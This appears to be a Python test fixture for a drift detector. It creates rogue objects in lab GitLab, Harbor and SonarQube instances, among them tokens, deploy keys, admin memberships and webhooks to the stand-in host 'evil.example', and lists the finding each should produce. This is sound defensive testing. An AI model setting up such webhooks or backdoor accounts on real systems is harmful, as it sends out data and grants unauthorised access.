"""Manual changes in GitLab, Harbor and SonarQube. Each function creates one object and returns the expected finding."""

from __future__ import annotations

import secrets
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.drift.inventory.hand import MARKER, PERSON, Expected, Hand, answered, deeds

# GitLab ---------------------------------------------------------------------------------------------------------------


def gitlab_account(hand: Hand) -> Expected:
    hand.gitlab_person()
    return None, "User", PERSON


def gitlab_member_of_the_group(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/groups/{hand.group()}/members", {"user_id": hand.gitlab_person(), "access_level": 40})
    return hand.slug, "GroupMembership", f"tenants/{hand.slug}: {PERSON}"


def gitlab_member_of_the_root(hand: Hand) -> Expected:
    hand.gitlab("POST", "/groups/tenants/members", {"user_id": hand.gitlab_person(), "access_level": 10})
    return None, "GroupMembership", f"tenants: {PERSON}"


def gitlab_member_of_a_project(hand: Hand) -> Expected:
    body = {"user_id": hand.gitlab_person(), "access_level": 40}
    hand.gitlab("POST", f"/projects/{hand.project()}/members", body)
    return hand.slug, "ProjectMembership", f"tenants/{hand.slug}/api: {PERSON}"


def gitlab_subgroup(hand: Hand) -> Expected:
    hand.gitlab("POST", "/groups", {"name": "extra", "path": "extra", "parent_id": hand.group()})
    return hand.slug, "Group", f"tenants/{hand.slug}/extra"


def gitlab_project(hand: Hand) -> Expected:
    hand.gitlab(
        "POST", "/projects", {"name": "extra-project", "namespace_id": hand.group(), "initialize_with_readme": True}
    )
    return hand.slug, "Project", f"tenants/{hand.slug}/extra-project"


def gitlab_shared_group(hand: Hand) -> Expected:
    # GitLab refuses the reverse: groups outside cannot be invited into the tenants' groups.
    platform = hand.gitlab("GET", "/groups/platform")["id"]
    hand.gitlab("POST", f"/groups/{platform}/share", {"group_id": hand.group(), "group_access": 30})
    return None, "GroupShareGroup", f"platform: tenants/{hand.slug}"


def gitlab_shared_project(hand: Hand) -> Expected:
    catalogue = hand.gitlab("GET", "/projects/platform%2Fcatalogue")["id"]
    hand.gitlab("POST", f"/projects/{catalogue}/share", {"group_id": hand.group(), "group_access": 30})
    return None, "ProjectShareGroup", f"platform/catalogue: tenants/{hand.slug}"


def gitlab_variable_of_the_group(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/groups/{hand.group()}/variables", {"key": "EXTRA", "value": MARKER})
    return hand.slug, "GroupVariable", f"tenants/{hand.slug}: EXTRA:*"


def gitlab_variable_of_a_project(hand: Hand) -> Expected:
    body = {"key": "EXTRA", "value": MARKER, "environment_scope": "prod"}
    hand.gitlab("POST", f"/projects/{hand.project()}/variables", body)
    return hand.slug, "ProjectVariable", f"tenants/{hand.slug}/api: EXTRA:prod"


def gitlab_deploy_token_of_the_group(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["read_repository"]}
    made = hand.gitlab("POST", f"/groups/{hand.group()}/deploy_tokens", body)
    return hand.slug, "GroupDeployToken", f"tenants/{hand.slug}: extra (#{made['id']})"


def gitlab_deploy_token_of_a_project(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["read_repository"]}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/deploy_tokens", body)
    return hand.slug, "ProjectDeployToken", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_access_token_of_the_group(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["api"], "access_level": 40, "expires_at": "2027-06-01"}
    made = hand.gitlab("POST", f"/groups/{hand.group()}/access_tokens", body)
    return hand.slug, "GroupAccessToken", f"tenants/{hand.slug}: extra (#{made['id']})"


def gitlab_access_token_of_a_project(hand: Hand) -> Expected:
    body = {"name": "extra", "scopes": ["api"], "access_level": 40, "expires_at": "2027-06-01"}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/access_tokens", body)
    return hand.slug, "ProjectAccessToken", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_deploy_key(hand: Hand) -> Expected:
    key = Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
    body = {"title": "extra", "key": f"{key} laptop", "can_push": True}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/deploy_keys", body)
    return hand.slug, "DeployKey", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_hook(hand: Hand) -> Expected:
    body = {"url": f"https://evil.example/{MARKER}", "token": MARKER}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/hooks", body)
    return hand.slug, "ProjectHook", f"tenants/{hand.slug}/api: #{made['id']}"


def gitlab_schedule(hand: Hand) -> Expected:
    body = {"description": "extra", "ref": "refs/heads/main", "cron": "0 1 * * *"}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/pipeline_schedules", body)
    return hand.slug, "PipelineSchedule", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_protected_branch(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/projects/{hand.project()}/protected_branches", {"name": "extra/*"})
    return hand.slug, "BranchProtection", f"tenants/{hand.slug}/api: extra/*"


def gitlab_protected_tag(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/projects/{hand.project()}/protected_tags", {"name": "extra-*"})
    return hand.slug, "TagProtection", f"tenants/{hand.slug}/api: extra-*"


def gitlab_package_rule(hand: Hand) -> Expected:
    body = {"package_name_pattern": "extra-*", "package_type": "npm", "minimum_access_level_for_push": "owner"}
    made = hand.gitlab("POST", f"/projects/{hand.project()}/packages/protection/rules", body)
    name = f"tenants/{hand.slug}/api: npm packages extra-* (#{made['id']})"
    return hand.slug, "ProjectPackageProtectionRule", name


def gitlab_environment(hand: Hand) -> Expected:
    hand.gitlab("POST", f"/projects/{hand.project('deploy')}/environments", {"name": "extra"})
    return hand.slug, "ProjectEnvironment", f"tenants/{hand.slug}/deploy: extra"


def gitlab_trigger(hand: Hand) -> Expected:
    made = hand.gitlab("POST", f"/projects/{hand.project()}/triggers", {"description": "extra"})
    return hand.slug, "PipelineTrigger", f"tenants/{hand.slug}/api: extra (#{made['id']})"


def gitlab_runner(hand: Hand) -> Expected:
    made = hand.gitlab("POST", "/user/runners", {"runner_type": "group_type", "group_id": hand.group()})
    return hand.slug, "UserRunner", f"tenants/{hand.slug}: #{made['id']}"


# Harbor ---------------------------------------------------------------------------------------------------------------


def harbor_project(hand: Hand) -> Expected:
    hand.harbor("POST", "/projects", {"project_name": "extra", "metadata": {"public": "true"}})
    return None, "Project", "extra"


def _robot(level: str, namespace: str) -> dict[str, Any]:
    access = [{"resource": "repository", "action": "pull"}]
    permissions = [{"kind": "project", "namespace": namespace, "access": access}]
    return {"name": "extra", "level": level, "duration": -1, "permissions": permissions}


def harbor_robot_of_the_project(hand: Hand) -> Expected:
    return hand.slug, "RobotAccount", f"robot: {hand.harbor('POST', '/robots', _robot('project', hand.slug))['name']}"


def harbor_robot_of_the_registry(hand: Hand) -> Expected:
    return None, "RobotAccount", f"robot: {hand.harbor('POST', '/robots', _robot('system', hand.slug))['name']}"


def harbor_member(hand: Hand) -> Expected:
    group = {"group_name": "/others/owner", "group_type": 3}
    body = {"role_id": 1, "member_group": group}
    hand.harbor("POST", f"/projects/{hand.harbor_project()}/members", body)
    return hand.slug, "ProjectMemberGroup", f"{hand.slug}: /others/owner"


def harbor_immutable_rule(hand: Hand) -> Expected:
    def selector(decoration: str, pattern: str) -> dict[str, str]:
        return {"kind": "doublestar", "decoration": decoration, "pattern": pattern}

    body = {
        "action": "immutable",
        "template": "immutable_template",
        "tag_selectors": [selector("matches", "extra-*")],
        "scope_selectors": {"repository": [selector("repoMatches", "**")]},
    }
    path = f"/projects/{hand.harbor_project()}/immutabletagrules"
    hand.harbor("POST", path, body)
    number = max(rule["id"] for rule in hand.harbor("GET", path))
    return hand.slug, "ImmutableTagRule", f"{hand.slug}: immutable extra-* (#{number})"


def harbor_webhook(hand: Hand) -> Expected:
    target = {"type": "http", "address": f"https://evil.example/{MARKER}", "auth_header": MARKER}
    body = {"name": "extra", "targets": [target], "event_types": ["PUSH_ARTIFACT"], "enabled": True}
    hand.harbor("POST", f"/projects/{hand.harbor_project()}/webhook/policies", body)
    return hand.slug, "ProjectWebhook", f"{hand.slug}: webhook extra"


def harbor_label_of_the_project(hand: Hand) -> Expected:
    hand.harbor("POST", "/labels", {"name": "extra", "scope": "p", "project_id": hand.harbor_project()})
    return hand.slug, "Label", f"{hand.slug}: label extra"


def harbor_label(hand: Hand) -> Expected:
    hand.harbor("POST", "/labels", {"name": "extra", "scope": "g"})
    return None, "Label", "label extra"


def harbor_registry(hand: Hand) -> Expected:
    body = {"name": "extra", "type": "docker-registry", "url": hand.lab.harbor.base_url.copy_with(path="/").__str__()}
    hand.harbor("POST", "/registries", body)
    return None, "Registry", "registry: extra"


def harbor_replication(hand: Hand) -> Expected:
    """A rule with the registry of the function before."""
    (registry,) = hand.harbor("GET", "/registries?name=extra")
    body = {"name": "extra", "dest_registry": {"id": registry["id"]}, "enabled": True}
    hand.harbor("POST", "/replication/policies", body)
    return None, "Replication", "replication: extra"


# SonarQube ------------------------------------------------------------------------------------------------------------


def sonarqube_project(hand: Hand) -> Expected:
    hand.sonarqube("/api/projects/create", project=f"{hand.slug}:extra", name="extra")
    return hand.slug, "Project", f"project: {hand.slug}:extra"


def sonarqube_group(hand: Hand) -> Expected:
    answered(hand.lab.sonarqube.post("/api/v2/authorizations/groups", json={"name": f"/{hand.slug}/extra"}))
    return hand.slug, "Group", f"group: /{hand.slug}/extra"


def sonarqube_gate(hand: Hand) -> Expected:
    hand.sonarqube("/api/qualitygates/create", name="extra")
    return None, "QualityGate", "gate: extra"


def _webhook(hand: Hand, **project: str) -> str:
    url = f"https://evil.example/{MARKER}"
    return str(hand.sonarqube("/api/webhooks/create", name="extra", url=url, **project)["webhook"]["key"])


def sonarqube_webhook_of_a_project(hand: Hand) -> Expected:
    key = f"{hand.slug}:api"
    return hand.slug, "Webhook", f"{key}: webhook extra ({_webhook(hand, project=key)})"


def sonarqube_webhook_of_the_server(hand: Hand) -> Expected:
    return None, "Webhook", f"every project: webhook extra ({_webhook(hand)})"


def sonarqube_token_of_a_project(hand: Hand) -> Expected:
    form = {"name": "extra", "type": "PROJECT_ANALYSIS_TOKEN", "projectKey": f"{hand.slug}:api"}
    login = hand.sonarqube("/api/user_tokens/generate", **form)["login"]
    return hand.slug, "ProjectAnalysisToken", f"token: {login}/extra"


def sonarqube_token_of_the_server(hand: Hand) -> Expected:
    login = hand.sonarqube("/api/user_tokens/generate", name="extra-2", type="GLOBAL_ANALYSIS_TOKEN")["login"]
    return None, "ProjectAnalysisToken", f"token: {login}/extra-2"


def sonarqube_token_of_the_administrator(hand: Hand) -> Expected:
    login = hand.sonarqube("/api/user_tokens/generate", name="extra-3", type="USER_TOKEN")["login"]
    return None, "ProjectAnalysisToken", f"token: {login}/extra-3"


def sonarqube_token_of_the_account_for_analyses(hand: Hand) -> Expected:
    """A token that the holder of an analysis token can create with it."""
    login = f"usine.{hand.slug}.1"
    hand.sonarqube("/api/user_tokens/generate", name="extra & more", login=login)
    return hand.slug, "ProjectAnalysisToken", f"token: {login}/extra & more"


def sonarqube_account(hand: Hand) -> Expected:
    body = {"login": f"usine.{hand.slug}.extra", "name": "extra", "local": False}
    answered(hand.lab.sonarqube.post("/api/v2/users-management/users", json=body))
    return hand.slug, "TechnicalAccount", f"account: usine.{hand.slug}.extra"


def sonarqube_account_with_a_password(hand: Hand) -> Expected:
    body = {"login": PERSON, "name": PERSON, "password": f"{secrets.token_urlsafe(16)}Aa1!", "local": True}
    answered(hand.lab.sonarqube.post("/api/v2/users-management/users", json=body))
    return None, "TechnicalAccount", f"account: {PERSON}"


def sonarqube_administrator(hand: Hand) -> Expected:
    """The membership of that account's person."""
    users = answered(hand.lab.sonarqube.get("/api/v2/users-management/users", params={"q": PERSON}))["users"]
    groups = answered(hand.lab.sonarqube.get("/api/v2/authorizations/groups", params={"q": "sonar-administrators"}))
    body = {"userId": users[0]["id"], "groupId": groups["groups"][0]["id"]}
    answered(hand.lab.sonarqube.post("/api/v2/authorizations/group-memberships", json=body))
    return None, "GroupMembership", f"sonar-administrators: {PERSON}"


#: In an order in which they can be created.
DEEDS = deeds(globals(), ("gitlab", "harbor", "sonarqube"))
